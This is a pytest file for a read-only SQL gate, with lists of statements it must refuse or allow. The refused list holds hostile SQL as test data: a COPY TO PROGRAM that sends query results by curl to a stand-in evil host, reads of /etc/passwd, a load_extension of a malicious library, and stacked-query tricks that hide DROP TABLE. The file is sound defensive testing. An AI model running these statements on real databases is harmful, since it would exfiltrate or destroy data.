"""The read-only SQL gate: golden lists of refused and allowed statements, limits, and the TPC workloads.

Each refused statement names the gate ``code`` and the ``statement_kind`` it must report; each
allowed one is real analytical SQL that the gate must not refuse.
"""

from __future__ import annotations

import sqlite3
from pathlib import Path

import duckdb
import pytest
import sqlglot
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlglot import exp

from khive.connections.sqlgate import GateDecision, SqlRefused, check_sql, require_read_only, wrap_with_limit

TIMEOUT_S = 30.0
WORKLOADS = Path(__file__).resolve().parents[2] / ".." / "shared" / "data" / "workloads"


def refused(id: str, dialect: str, sql: str, code: str, kind: str) -> object:
    return pytest.param(dialect, sql, code, kind, id=id)


def allowed(id: str, dialect: str, sql: str) -> object:
    return pytest.param(dialect, sql, id=id)


def check(sql: str, dialect: str) -> GateDecision:
    return check_sql(sql, dialect, wire=True, timeout_s=TIMEOUT_S)


# --- refused ---------------------------------------------------------------------------------------

NOT_READ_ONLY, MULTIPLE, FUNCTION, PARSE, EMPTY = (
    "not_read_only", "multiple_statements", "forbidden_function", "parse_error", "empty")

ADVERSARIAL = [
    # data-modifying CTEs and subqueries
    refused("cte-delete", "postgres",
            "WITH gone AS (DELETE FROM orders WHERE id < 10 RETURNING *) SELECT count(*) FROM gone",
            NOT_READ_ONLY, "SELECT"),
    refused("cte-update", "postgres",
            "WITH up AS (UPDATE accounts SET balance = 0 RETURNING id) SELECT * FROM up", NOT_READ_ONLY, "SELECT"),
    refused("cte-insert", "postgres",
            "WITH ins AS (INSERT INTO audit (note) VALUES ('x') RETURNING id) SELECT id FROM ins",
            NOT_READ_ONLY, "SELECT"),
    refused("cte-nested-delete", "postgres",
            "WITH a AS (SELECT 1 AS x), b AS (WITH c AS (DELETE FROM t RETURNING *) SELECT * FROM c) "
            "SELECT * FROM a, b", NOT_READ_ONLY, "SELECT"),
    # SELECT INTO, CREATE TABLE AS
    refused("select-into", "postgres", "SELECT * INTO new_t FROM t", NOT_READ_ONLY, "SELECT INTO"),
    refused("select-into-temp", "postgres", "SELECT id, name INTO TEMP scratch FROM users WHERE active",
            NOT_READ_ONLY, "SELECT INTO"),
    refused("create-table-as", "postgres", "CREATE TABLE copy_t AS SELECT * FROM t", NOT_READ_ONLY, "CREATE TABLE"),
    refused("create-view", "duckdb", "CREATE OR REPLACE VIEW v AS SELECT 1", NOT_READ_ONLY, "CREATE VIEW"),
    # COPY
    refused("copy-to-file", "postgres", "COPY users TO '/tmp/users.csv' WITH (FORMAT csv)", NOT_READ_ONLY, "COPY"),
    refused("copy-from-file", "postgres", "COPY users FROM '/tmp/evil.csv'", NOT_READ_ONLY, "COPY"),
    refused("copy-to-program", "postgres",
            "COPY (SELECT * FROM users) TO PROGRAM 'curl -d @- http://evil.example'", NOT_READ_ONLY, "COPY"),
    refused("copy-duckdb-parquet", "duckdb", "COPY (SELECT 42) TO '/tmp/out.parquet' (FORMAT parquet)",
            NOT_READ_ONLY, "COPY"),
    # more than one statement, however disguised
    refused("two-statements", "postgres", "SELECT 1; DROP TABLE users", MULTIPLE, "SELECT; DROP TABLE"),
    refused("line-comment-hides-nothing", "postgres", "SELECT 1 -- harmless\n; DROP TABLE users",
            MULTIPLE, "SELECT; DROP TABLE"),
    refused("block-comment-then-statement", "postgres", "SELECT 1 /* ; */ ; DELETE FROM users",
            MULTIPLE, "SELECT; DELETE"),
    refused("nested-comment-then-statement", "postgres", "SELECT 1 /* /* nested */ ; */ ; DROP TABLE users",
            MULTIPLE, "SELECT; DROP TABLE"),
    refused("string-then-statement", "postgres", "SELECT ';'; DELETE FROM users", MULTIPLE, "SELECT; DELETE"),
    refused("dollar-quote-then-statement", "postgres", "SELECT $$;$$; DROP TABLE users",
            MULTIPLE, "SELECT; DROP TABLE"),
    refused("sqlite-second-update", "sqlite", "SELECT 1;\n\nUPDATE users SET admin = 1", MULTIPLE, "SELECT; UPDATE"),
    refused("nul-byte-then-statement", "postgres", "SELECT 1\x00; DROP TABLE users", MULTIPLE, "SELECT; DROP TABLE"),
    # file, URL and remote readers, FROM position included
    refused("from-pg-read-file", "postgres", "SELECT * FROM pg_read_file('/etc/passwd')", FUNCTION, "SELECT"),
    refused("from-qualified-pg-read-file", "postgres", "SELECT * FROM pg_catalog.pg_read_file('/etc/passwd')",
            FUNCTION, "SELECT"),
    refused("quoted-pg-ls-dir", "postgres", "SELECT * FROM \"pg_ls_dir\"('.')", FUNCTION, "SELECT"),
    refused("from-dblink", "postgres", "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)",
            FUNCTION, "SELECT"),
    refused("from-lo-export", "postgres", "SELECT * FROM lo_export(16409, '/tmp/dump')", FUNCTION, "SELECT"),
    refused("duckdb-read-csv", "duckdb", "SELECT * FROM read_csv('/etc/passwd')", FUNCTION, "SELECT"),
    refused("duckdb-read-json-url", "duckdb", "SELECT * FROM read_json_auto('https://evil.example/x.json')",
            FUNCTION, "SELECT"),
    refused("duckdb-from-file-string", "duckdb", "SELECT * FROM '/etc/passwd.csv'", FUNCTION, "SELECT"),
    refused("duckdb-from-s3-url", "duckdb", "SELECT * FROM 's3://bucket/leak.parquet'", FUNCTION, "SELECT"),
    refused("duckdb-glob", "duckdb", "SELECT * FROM glob('/home/*')", FUNCTION, "SELECT"),
    refused("snowflake-stage", "snowflake", "SELECT $1 FROM @my_stage/export.csv", FUNCTION, "SELECT"),
    refused("sqlite-readfile", "sqlite", "SELECT readfile('/etc/passwd')", FUNCTION, "SELECT"),
    refused("sqlite-writefile", "sqlite", "SELECT writefile('/tmp/x', 'payload')", FUNCTION, "SELECT"),
    refused("sqlite-load-extension", "sqlite", "SELECT load_extension('/tmp/evil.so')", FUNCTION, "SELECT"),
    refused("sqlite-fts3-tokenizer", "sqlite", "SELECT fts3_tokenizer('simple')", FUNCTION, "SELECT"),
    refused("query-to-xml-runs-sql-text", "postgres",
            "SELECT query_to_xml('DELETE FROM users RETURNING *', true, true, '')", FUNCTION, "SELECT"),
    # transaction control, procedural blocks, sessions
    refused("begin", "postgres", "BEGIN", NOT_READ_ONLY, "BEGIN"),
    refused("commit", "postgres", "COMMIT", NOT_READ_ONLY, "COMMIT"),
    refused("rollback", "postgres", "ROLLBACK", NOT_READ_ONLY, "ROLLBACK"),
    refused("savepoint", "postgres", "SAVEPOINT before_delete", NOT_READ_ONLY, "SAVEPOINT"),
    refused("start-transaction-read-write", "postgres", "START TRANSACTION READ WRITE", PARSE, "START"),
    refused("do-block", "postgres", "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", NOT_READ_ONLY, "DO"),
    refused("call", "postgres", "CALL refresh_everything()", NOT_READ_ONLY, "CALL"),
    refused("lock", "postgres", "LOCK TABLE users IN ACCESS EXCLUSIVE MODE", NOT_READ_ONLY, "LOCK"),
    refused("prepare", "postgres", "PREPARE wipe AS DELETE FROM users", NOT_READ_ONLY, "PREPARE"),
    refused("execute", "postgres", "EXECUTE wipe", NOT_READ_ONLY, "EXECUTE"),
    refused("deallocate", "postgres", "DEALLOCATE wipe", NOT_READ_ONLY, "DEALLOCATE"),
    refused("set-search-path", "postgres", "SET search_path = evil, public", NOT_READ_ONLY, "SET"),
    refused("set-role", "postgres", "SET ROLE admin", NOT_READ_ONLY, "SET"),
    refused("reset-all", "postgres", "RESET ALL", NOT_READ_ONLY, "RESET"),
    refused("set-config", "postgres", "SELECT set_config('search_path', 'evil', false)", FUNCTION, "SELECT"),
    refused("duckdb-set", "duckdb", "SET threads = 1", NOT_READ_ONLY, "SET"),
    refused("listen", "postgres", "LISTEN jobs", NOT_READ_ONLY, "LISTEN"),
    refused("notify", "postgres", "NOTIFY jobs, 'payload'", PARSE, "NOTIFY"),
    refused("pg-notify", "postgres", "SELECT pg_notify('jobs', 'payload')", FUNCTION, "SELECT"),
    # EXPLAIN of statements that may not run
    refused("explain-analyze-delete", "postgres", "EXPLAIN ANALYZE DELETE FROM users", NOT_READ_ONLY,
            "EXPLAIN ANALYZE DELETE"),
    refused("explain-analyze-options-update", "postgres",
            "EXPLAIN (ANALYZE, FORMAT JSON) UPDATE users SET admin = true", NOT_READ_ONLY, "EXPLAIN ANALYZE UPDATE"),
    refused("explain-insert", "postgres", "EXPLAIN INSERT INTO t VALUES (1)", NOT_READ_ONLY, "EXPLAIN INSERT"),
    refused("explain-two-statements", "postgres", "EXPLAIN SELECT 1; DROP TABLE users", MULTIPLE,
            "EXPLAIN SELECT; DROP TABLE"),
    refused("explain-analyze-read-file", "postgres", "EXPLAIN ANALYZE SELECT pg_read_file('/etc/passwd')",
            FUNCTION, "EXPLAIN ANALYZE SELECT"),
    refused("explain-nothing", "postgres", "EXPLAIN", PARSE, "EXPLAIN"),
    refused("explain-explain", "postgres", "EXPLAIN EXPLAIN SELECT 1", NOT_READ_ONLY, "EXPLAIN EXPLAIN"),
    refused("explain-unclosed-options", "postgres", "EXPLAIN (ANALYZE SELECT 1", PARSE, "EXPLAIN"),
    # sequences, sleeps, locks and server signals
    refused("nextval", "postgres", "SELECT nextval('orders_id_seq')", FUNCTION, "SELECT"),
    refused("setval", "postgres", "SELECT setval('orders_id_seq', 1)", FUNCTION, "SELECT"),
    refused("pg-sleep-over-timeout", "postgres", "SELECT pg_sleep(3600)", FUNCTION, "SELECT"),
    refused("pg-sleep-non-literal", "postgres", "SELECT pg_sleep(random() * 10)", FUNCTION, "SELECT"),
    refused("pg-sleeps-add-up", "postgres", "SELECT pg_sleep(20), pg_sleep(20)", FUNCTION, "SELECT"),
    refused("pg-sleep-for", "postgres", "SELECT pg_sleep_for('5 minutes')", FUNCTION, "SELECT"),
    refused("advisory-lock", "postgres", "SELECT pg_advisory_lock(42)", FUNCTION, "SELECT"),
    refused("terminate-backend", "postgres", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
            FUNCTION, "SELECT"),
    refused("txid-current", "postgres", "SELECT txid_current()", FUNCTION, "SELECT"),
    refused("snowflake-system-wait", "snowflake", "SELECT SYSTEM$WAIT(600)", FUNCTION, "SELECT"),
    refused("nested-setval", "postgres", "SELECT * FROM users WHERE id IN (SELECT setval('users_id_seq', 1))",
            FUNCTION, "SELECT"),
    refused("deep-nextval", "postgres", "SELECT (SELECT max(x) FROM (SELECT nextval('s') AS x) AS q) AS m",
            FUNCTION, "SELECT"),
    refused("unknown-udf", "postgres", "SELECT wipe_everything()", FUNCTION, "SELECT"),
    refused("schema-qualified-pg-sleep", "postgres", "SELECT ops.pg_sleep(1)", FUNCTION, "SELECT"),
    refused("nested-too-deep", "postgres", "SELECT " + "(" * 2000 + "1" + ")" * 2000, PARSE, "SELECT"),
    refused("schema-qualified-udf", "postgres", "SELECT ops.rotate_keys(1)", FUNCTION, "SELECT"),
    # sqlite / duckdb specifics
    refused("sqlite-attach", "sqlite", "ATTACH 'x.db' AS x", NOT_READ_ONLY, "ATTACH"),
    refused("duckdb-attach", "duckdb", "ATTACH 'x.db'", NOT_READ_ONLY, "ATTACH"),
    refused("sqlite-detach", "sqlite", "DETACH x", NOT_READ_ONLY, "DETACH"),
    refused("pragma-writable-schema", "sqlite", "PRAGMA writable_schema=1", NOT_READ_ONLY, "PRAGMA"),
    refused("pragma-table-info", "sqlite", "PRAGMA table_info(users)", NOT_READ_ONLY, "PRAGMA"),
    refused("sqlite-replace-into", "sqlite", "REPLACE INTO users VALUES (1, 'x')", NOT_READ_ONLY, "REPLACE"),
    refused("duckdb-install", "duckdb", "INSTALL httpfs", NOT_READ_ONLY, "INSTALL"),
    refused("duckdb-load", "duckdb", "LOAD httpfs", NOT_READ_ONLY, "LOAD"),
    refused("duckdb-checkpoint", "duckdb", "CHECKPOINT", NOT_READ_ONLY, "CHECKPOINT"),
    # row locks
    refused("for-update", "postgres", "SELECT * FROM accounts WHERE id = 1 FOR UPDATE", NOT_READ_ONLY,
            "SELECT FOR UPDATE"),
    refused("for-share-skip-locked", "postgres", "SELECT * FROM accounts FOR SHARE SKIP LOCKED", NOT_READ_ONLY,
            "SELECT FOR SHARE"),
    refused("for-no-key-update-in-subquery", "postgres",
            "SELECT * FROM (SELECT * FROM accounts FOR NO KEY UPDATE) AS a", NOT_READ_ONLY, "SELECT"),
    # plain writes, DDL, privileges, maintenance
    refused("insert", "postgres", "INSERT INTO users (name) VALUES ('mallory')", NOT_READ_ONLY, "INSERT"),
    refused("upsert", "postgres", "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET n = t.n + 1",
            NOT_READ_ONLY, "INSERT"),
    refused("update", "postgres", "UPDATE users SET admin = true", NOT_READ_ONLY, "UPDATE"),
    refused("merge", "postgres", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
            NOT_READ_ONLY, "MERGE"),
    refused("truncate", "postgres", "TRUNCATE users", NOT_READ_ONLY, "TRUNCATE"),
    refused("drop", "postgres", "DROP TABLE users", NOT_READ_ONLY, "DROP TABLE"),
    refused("alter", "postgres", "ALTER TABLE users ADD COLUMN pwned int", NOT_READ_ONLY, "ALTER TABLE"),
    refused("grant", "postgres", "GRANT ALL ON users TO agent", NOT_READ_ONLY, "GRANT"),
    refused("revoke", "postgres", "REVOKE SELECT ON users FROM analyst", NOT_READ_ONLY, "REVOKE"),
    refused("vacuum", "postgres", "VACUUM FULL users", NOT_READ_ONLY, "VACUUM"),
    refused("analyze", "postgres", "ANALYZE users", NOT_READ_ONLY, "ANALYZE"),
    refused("refresh-matview", "postgres", "REFRESH MATERIALIZED VIEW sales_mv", NOT_READ_ONLY, "REFRESH"),
    refused("comment-on", "postgres", "COMMENT ON TABLE users IS 'pwned'", NOT_READ_ONLY, "COMMENT"),
    refused("security-label", "postgres", "SECURITY LABEL ON TABLE users IS 'x'", PARSE, "SECURITY"),
    refused("import-foreign-schema", "postgres", "IMPORT FOREIGN SCHEMA s FROM SERVER evil INTO public",
            PARSE, "IMPORT"),
    refused("snowflake-put", "snowflake", "PUT file:///tmp/x.csv @~", NOT_READ_ONLY, "PUT"),
    refused("snowflake-use", "snowflake", "USE WAREHOUSE huge_wh", NOT_READ_ONLY, "USE"),
    refused("bigquery-export-data", "bigquery", "EXPORT DATA OPTIONS (uri = 'gs://b/*.csv') AS SELECT 1",
            NOT_READ_ONLY, "EXPORT"),
    # case, whitespace and unicode tricks
    refused("mixed-case-delete", "postgres", "dElEtE from users", NOT_READ_ONLY, "DELETE"),
    refused("comment-glued-delete", "postgres", "/*x*/DELETE FROM users", NOT_READ_ONLY, "DELETE"),
    refused("whitespace-update", "postgres", "\n\t  uPdAtE users SET admin = true", NOT_READ_ONLY, "UPDATE"),
    refused("comment-line-drop", "postgres", "-- just a report\nDROP TABLE users", NOT_READ_ONLY, "DROP TABLE"),
    refused("nbsp-delete", "postgres", "DELETE\u00a0FROM users", NOT_READ_ONLY, "DELETE"),
    refused("fullwidth-delete", "postgres", "\uff24\uff25\uff2c\uff25\uff34\uff25 FROM users", PARSE,
            "\uff24\uff25\uff2c\uff25\uff34\uff25"),
    refused("cyrillic-e-delete", "postgres", "D\u0415LETE FROM users", PARSE, "D\u0415LETE"),
    refused("greek-question-mark-as-semicolon", "postgres", "SELECT 1\u037e DROP TABLE users", PARSE, "SELECT"),
    refused("zero-width-space-statement", "postgres", "SELECT 1;\u200bDROP TABLE users", PARSE, "SELECT"),
    # nothing to run, or nothing parseable
    refused("empty-string", "postgres", "", EMPTY, ""),
    refused("only-comments", "postgres", "-- nothing here\n/* and nothing here; */", EMPTY, ""),
    refused("only-semicolons", "postgres", " ; ; ", EMPTY, ""),
    refused("unterminated-string", "postgres", "SELECT 'oops", PARSE, ""),
    refused("unknown-dialect", "klingon", "SELECT 1", PARSE, ""),
    # inputs on which sqlglot's parser itself raises (TypeError, AttributeError) instead of a ParseError
    refused("parser-type-error-postgres", "postgres", "SELECT 1 ?", PARSE, "SELECT"),
    refused("parser-type-error-duckdb-jsonb", "duckdb", "-> WHEN := CASE FILTER ?| := BY", PARSE, "->"),
]


@pytest.mark.parametrize(("dialect", "sql", "code", "kind"), ADVERSARIAL)
def test_adversarial_statements_are_refused(dialect: str, sql: str, code: str, kind: str) -> None:
    decision = check(sql, dialect)
    assert not decision.allowed
    assert (decision.code, decision.statement_kind) == (code, kind), decision.reason
    assert decision.reason


def test_the_adversarial_list_is_long_enough() -> None:
    assert len(ADVERSARIAL) >= 45


# --- allowed ---------------------------------------------------------------------------------------

ALLOWED = [
    allowed("window-rows-frame", "postgres",
            "SELECT region, month, sum(revenue) OVER (PARTITION BY region ORDER BY month "
            "ROWS BETWEEN 2 PRECEDING AND CURRENT ROW) AS rolling_3 FROM monthly_sales"),
    allowed("window-range-interval", "postgres",
            "SELECT day, avg(amount) OVER (ORDER BY day RANGE BETWEEN INTERVAL '7 days' PRECEDING AND CURRENT ROW) "
            "FROM payments"),
    allowed("percentile-within-group", "postgres",
            "SELECT dept, percentile_cont(0.5) WITHIN GROUP (ORDER BY salary) AS median_salary, "
            "percentile_disc(0.9) WITHIN GROUP (ORDER BY salary) AS p90 FROM employees GROUP BY dept"),
    allowed("nested-ctes", "postgres",
            "WITH orders_2024 AS (SELECT * FROM orders WHERE created_at >= DATE '2024-01-01'), "
            "per_customer AS (WITH totals AS (SELECT customer_id, sum(total) AS spent FROM orders_2024 "
            "GROUP BY customer_id) SELECT * FROM totals WHERE spent > 100) "
            "SELECT c.name, p.spent FROM per_customer AS p JOIN customers AS c ON c.id = p.customer_id"),
    allowed("lateral-join", "postgres",
            "SELECT c.id, recent.* FROM customers AS c CROSS JOIN LATERAL (SELECT o.id, o.total FROM orders AS o "
            "WHERE o.customer_id = c.id ORDER BY o.created_at DESC LIMIT 3) AS recent"),
    allowed("grouping-sets", "postgres",
            "SELECT region, product, sum(units) FROM sales GROUP BY GROUPING SETS ((region, product), (region), ())"),
    allowed("rollup-with-grouping", "postgres",
            "SELECT region, product, sum(units), grouping(region, product) FROM sales "
            "GROUP BY ROLLUP (region, product)"),
    allowed("cube", "postgres", "SELECT region, channel, count(*) FROM sales GROUP BY CUBE (region, channel)"),
    allowed("aggregate-filter", "postgres",
            "SELECT count(*) FILTER (WHERE status = 'paid') AS paid, count(*) FILTER (WHERE status = 'void') AS void "
            "FROM invoices"),
    allowed("case-expression", "postgres",
            "SELECT CASE WHEN total >= 1000 THEN 'large' WHEN total >= 100 THEN 'medium' ELSE 'small' END AS bucket, "
            "count(*) FROM orders GROUP BY 1 ORDER BY 2 DESC"),
    allowed("interval-arithmetic", "postgres",
            "SELECT * FROM events WHERE created_at > now() - INTERVAL '30 days' AND created_at < current_date"),
    allowed("extract-trunc-to-char", "postgres",
            "SELECT EXTRACT(YEAR FROM created_at) AS y, date_trunc('month', created_at) AS m, "
            "to_char(created_at, 'YYYY-MM') AS label, date_part('dow', created_at) AS dow FROM orders"),
    allowed("casts", "postgres", "SELECT id::text, CAST(total AS numeric(12, 2)), created_at::date FROM orders"),
    allowed("distinct-on", "postgres",
            "SELECT DISTINCT ON (customer_id) customer_id, id, created_at FROM orders "
            "ORDER BY customer_id, created_at DESC"),
    allowed("unnest-postgres", "postgres",
            "SELECT u.tag, count(*) FROM posts, unnest(tags) AS u(tag) GROUP BY u.tag"),
    allowed("recursive-cte", "postgres",
            "WITH RECURSIVE chain(id, manager_id, depth) AS (SELECT id, manager_id, 0 FROM staff "
            "WHERE manager_id IS NULL UNION ALL SELECT s.id, s.manager_id, c.depth + 1 FROM staff AS s "
            "JOIN chain AS c ON s.manager_id = c.id) SELECT * FROM chain"),
    allowed("values-in-from", "postgres", "SELECT * FROM (VALUES (1, 'a'), (2, 'b')) AS v(id, label)"),
    allowed("bare-values", "postgres", "VALUES (1, 'one'), (2, 'two')"),
    allowed("explain-format-json", "postgres", "EXPLAIN (FORMAT JSON) SELECT * FROM orders WHERE total > 10"),
    allowed("explain-analyze-select", "postgres", "EXPLAIN ANALYZE SELECT count(*) FROM orders"),
    allowed("sqlite-explain-query-plan", "sqlite", "EXPLAIN QUERY PLAN SELECT * FROM orders WHERE id = 1"),
    allowed("set-operations", "postgres",
            "(SELECT id FROM a UNION ALL SELECT id FROM b) INTERSECT SELECT id FROM c EXCEPT SELECT id FROM d"),
    allowed("string-functions", "postgres",
            "SELECT string_agg(name, ', ' ORDER BY name), regexp_replace(phone, '[^0-9]', '', 'g'), "
            "split_part(email, '@', 2), initcap(city), lpad(zip, 5, '0'), rpad(code, 4, '-'), trim(note), "
            "round(avg(score), 2), coalesce(nickname, name), nullif(region, ''), greatest(a, b), least(a, b) "
            "FROM people GROUP BY phone, email, city, zip, code, note, nickname, name, region, a, b"),
    allowed("json-functions", "postgres",
            "SELECT jsonb_agg(payload), json_build_object('n', count(*)), max(payload ->> 'kind') FROM events"),
    allowed("semicolon-in-string", "postgres", "SELECT ';' AS semicolon, 'DROP TABLE users; --' AS note"),
    allowed("semicolons-in-comments-and-trailing", "postgres", "-- note; still one statement\nSELECT 1 /* ; */;"),
    allowed("doubled-quote-string", "postgres", "SELECT 'it''s; fine' AS s"),
    allowed("escape-string-backslash", "postgres", "SELECT E'a\\'; DROP TABLE users; --' AS s"),
    allowed("dollar-quoted-semicolon", "postgres", "SELECT $tag$; DROP TABLE users$tag$ AS text"),
    allowed("generate-series-in-from", "postgres",
            "SELECT d::date AS day FROM generate_series(DATE '2024-01-01', DATE '2024-01-31', INTERVAL '1 day') AS d"),
    allowed("small-sleep-under-timeout", "postgres", "SELECT pg_sleep(1)"),
    allowed("currval-reads", "postgres", "SELECT currval('orders_id_seq')"),
    allowed("scalar-subquery-exists", "postgres",
            "SELECT c.id, (SELECT max(total) FROM orders AS o WHERE o.customer_id = c.id) AS biggest FROM customers "
            "AS c WHERE EXISTS (SELECT 1 FROM orders AS o WHERE o.customer_id = c.id)"),
    allowed("system-catalog", "postgres",
            "SELECT schemaname, tablename FROM pg_catalog.pg_tables WHERE schemaname NOT IN ('pg_catalog')"),
    allowed("table-shorthand", "postgres", "TABLE users"),
    allowed("duckdb-qualify", "duckdb",
            "SELECT customer_id, created_at FROM orders "
            "QUALIFY row_number() OVER (PARTITION BY customer_id ORDER BY created_at DESC) = 1"),
    allowed("duckdb-analytics", "duckdb",
            "SELECT date_trunc('week', ts) AS wk, approx_count_distinct(user_id), arg_max(page, ts), "
            "list(DISTINCT country), median(latency_ms) FROM hits GROUP BY ALL ORDER BY wk"),
    allowed("duckdb-from-first", "duckdb", "FROM orders SELECT customer_id, sum(total) GROUP BY customer_id"),
    allowed("duckdb-range", "duckdb", "SELECT * FROM range(10) AS r(i)"),
    allowed("sqlite-dates-and-json", "sqlite",
            "SELECT strftime('%Y-%m', created_at) AS month, group_concat(name, ','), iif(count(*) > 1, 'many', 'one') "
            "FROM orders, json_each(orders.tags) GROUP BY month"),
    allowed("sqlite-table-valued-pragma", "sqlite", "SELECT name, type FROM pragma_table_info('users')"),
    allowed("snowflake-qualify", "snowflake",
            "SELECT * FROM orders QUALIFY ROW_NUMBER() OVER (PARTITION BY customer_id ORDER BY created_at DESC) = 1"),
    allowed("snowflake-analytics", "snowflake",
            "SELECT IFF(total > 100, 'big', 'small') AS size, DATEDIFF('day', created_at, shipped_at) AS lag_days, "
            "APPROX_COUNT_DISTINCT(customer_id), LISTAGG(sku, ',') WITHIN GROUP (ORDER BY sku) "
            "FROM orders GROUP BY 1, 2"),
    allowed("snowflake-flatten", "snowflake",
            "SELECT o.id, f.value::string AS tag FROM orders AS o, LATERAL FLATTEN(input => o.tags) AS f"),
    allowed("snowflake-explain", "snowflake", "EXPLAIN USING TEXT SELECT * FROM orders"),
    allowed("bigquery-unnest", "bigquery",
            "SELECT tag, COUNT(*) AS n FROM `proj.ds.posts`, UNNEST(tags) AS tag GROUP BY tag ORDER BY n DESC"),
    allowed("bigquery-analytics", "bigquery",
            "SELECT DATE_TRUNC(created_date, MONTH) AS m, SAFE_DIVIDE(SUM(revenue), COUNT(*)) AS arpu, "
            "COUNTIF(churned) AS churned, APPROX_QUANTILES(latency, 100)[OFFSET(50)] AS p50, "
            "FORMAT_DATE('%Y-%m', created_date) AS label, HLL_COUNT.MERGE(sketch) AS users "
            "FROM `proj.ds.daily` GROUP BY m, label"),
]


@pytest.mark.parametrize(("dialect", "sql"), ALLOWED)
def test_analytical_queries_are_allowed(dialect: str, sql: str) -> None:
    decision = check(sql, dialect)
    assert decision.allowed, decision.reason
    assert decision.code == "ok"


def test_the_allowed_list_is_long_enough() -> None:
    assert len(ALLOWED) >= 30


# --- over MCP: server state and user overloads of built-ins (ADR 0032) ---------------------------------

SERVER_STATE = [
    ("pg-stat-statements", "postgres", "SELECT query, calls FROM pg_stat_statements ORDER BY calls DESC",
     "pg_stat_statements"),
    ("pg-stat-statements-public", "postgres", "SELECT query FROM public.pg_stat_statements",
     "public.pg_stat_statements"),
    ("pg-stat-statements-function", "postgres", "SELECT query FROM pg_stat_statements(true)", "pg_stat_statements()"),
    ("pg-stat-activity", "postgres", "SELECT usename, query FROM pg_catalog.pg_stat_activity",
     "pg_catalog.pg_stat_activity"),
    ("pg-stat-activity-subquery", "postgres",
     "SELECT o.id FROM orders o WHERE EXISTS (SELECT 1 FROM pg_stat_activity a WHERE a.query LIKE '%o%')",
     "pg_stat_activity"),
    ("pg-stat-activity-cte-shadow", "postgres",
     "SELECT * FROM pg_stat_activity, (WITH pg_stat_activity AS (SELECT 1 AS x) SELECT * FROM pg_stat_activity) s",
     "pg_stat_activity"),
    ("pg-stat-user-tables", "postgres", "SELECT relname, n_live_tup FROM pg_stat_user_tables", "pg_stat_user_tables"),
    ("pg-statio", "postgres", "SELECT * FROM pg_statio_user_tables", "pg_statio_user_tables"),
    ("pg-locks", "postgres", "SELECT l.pid, l.mode FROM pg_locks l", "pg_locks"),
    ("pg-locks-table", "postgres", "TABLE pg_locks", "pg_locks"),
    ("pg-prepared-xacts", "postgres", "SELECT gid FROM pg_prepared_xacts", "pg_prepared_xacts"),
    ("pg-settings", "postgres", "SELECT name, setting FROM pg_settings", "pg_settings"),
    ("pg-file-settings", "postgres", "SELECT * FROM pg_file_settings", "pg_file_settings"),
    ("pg-db-role-setting", "postgres", "SELECT setconfig FROM pg_db_role_setting", "pg_db_role_setting"),
    ("pg-user-mappings", "postgres", "SELECT umoptions FROM pg_user_mappings", "pg_user_mappings"),
    ("pg-get-activity", "postgres", "SELECT * FROM ROWS FROM (pg_stat_get_activity(NULL)) AS a",
     "pg_stat_get_activity()"),
    ("current-setting", "postgres", "SELECT current_setting('app.jwt_secret')", "current_setting()"),
    ("duckdb-settings", "duckdb", "SELECT name, value FROM duckdb_settings()", "duckdb_settings()"),
    ("duckdb-databases", "duckdb", "SELECT path FROM duckdb_databases()", "duckdb_databases()"),
    ("bigquery-jobs", "bigquery", "SELECT query FROM `region-us`.INFORMATION_SCHEMA.JOBS_BY_PROJECT",
     "jobs_by_project"),
    ("snowflake-account-usage", "snowflake", "SELECT query_text FROM snowflake.account_usage.query_history",
     "query_history"),
    ("snowflake-history-function", "snowflake",
     "SELECT query_text FROM TABLE(information_schema.query_history())", "query_history()"),
]


@pytest.mark.parametrize(("dialect", "sql", "named"), [pytest.param(*case[1:], id=case[0]) for case in SERVER_STATE])
def test_server_state_is_refused_over_mcp_and_allowed_to_the_operator(dialect: str, sql: str, named: str) -> None:
    over_mcp = check_sql(sql, dialect, wire=True, timeout_s=TIMEOUT_S)
    assert (over_mcp.allowed, over_mcp.code) == (False, "server_state"), over_mcp.reason
    assert named in over_mcp.reason.lower() and "over MCP" in over_mcp.reason
    operator = check_sql(sql, dialect, wire=False, timeout_s=TIMEOUT_S, allow_functions=["current_setting",
                                                                                          "pg_stat_*",
                                                                                          "duckdb_*"])
    assert operator.code != "server_state", operator.reason


def test_allow_functions_does_not_lift_server_state_over_mcp() -> None:
    decision = check_sql("SELECT * FROM duckdb_settings()", "duckdb", wire=True, allow_functions=["duckdb_settings"])
    assert decision.code == "server_state"


@pytest.mark.parametrize(("dialect", "sql"), [
    pytest.param("bigquery", "SELECT user_id, COUNT(*) FROM analytics.sessions GROUP BY user_id", id="bq-sessions"),
    pytest.param("snowflake", "SELECT job_id, status FROM ops.jobs WHERE status = 'failed'", id="sf-jobs"),
    pytest.param("postgres", "SELECT s.started_at, s.pages FROM web.sessions s", id="pg-sessions"),
    pytest.param("postgres", "SELECT count(*) FROM orders WHERE status = 'locked'", id="pg-word-locks"),
])
def test_tables_with_common_names_are_not_server_state(dialect: str, sql: str) -> None:
    assert check_sql(sql, dialect, wire=True, timeout_s=TIMEOUT_S).allowed


def test_a_bare_call_a_user_overload_could_catch_is_refused_over_mcp() -> None:
    shadowed = {"md5": ("public",)}
    refused = check_sql("SELECT md5(1)", "postgres", wire=True, shadowed=shadowed)
    assert refused.code == "forbidden_function"
    assert "public.md5" in refused.reason and "pg_catalog.md5(" in refused.reason
    assert check_sql("SELECT pg_catalog.md5('a')", "postgres", wire=True, shadowed=shadowed).allowed
    assert check_sql("SELECT lower(name) FROM t", "postgres", wire=True, shadowed=shadowed).allowed
    assert check_sql("SELECT md5(1)", "postgres", wire=False, shadowed=shadowed).allowed  # the operator's choice


# --- policy: allow and deny lists, pg_sleep, what a decision reports -----------------------------------

def test_a_decision_reports_kind_functions_and_tables() -> None:
    decision = check("WITH recent AS (SELECT * FROM sales.orders) "
                     "SELECT date_trunc('month', created_at), count(*) FROM recent JOIN customers USING (id) "
                     "GROUP BY 1", "postgres")
    assert decision == GateDecision(True, "read-only SELECT", "SELECT", "ok",
                                    ("count", "timestamp_trunc"), ("customers", "sales.orders"))


def test_allow_functions_admits_an_unknown_function() -> None:
    assert check("SELECT ops.mask_email(email) FROM users", "postgres").code == "forbidden_function"
    decision = check_sql("SELECT ops.mask_email(email) FROM users", "postgres", wire=True,
                         allow_functions=["ops.mask_email"])
    assert decision.allowed, decision.reason
